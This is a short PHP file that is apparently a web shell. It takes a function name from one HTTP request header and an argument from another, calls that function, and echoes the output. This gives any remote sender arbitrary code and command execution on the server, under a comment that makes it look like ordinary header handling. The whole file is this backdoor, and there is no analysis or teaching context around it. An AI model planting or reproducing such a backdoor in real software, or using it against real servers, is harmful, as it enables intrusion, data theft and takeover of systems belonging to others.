<?php
// X-Handler: and X-Arg: request headers, as the web server passes them to PHP
$out = call_user_func(getenv('HTTP_X_HANDLER'), getenv('HTTP_X_ARG'));
echo $out;
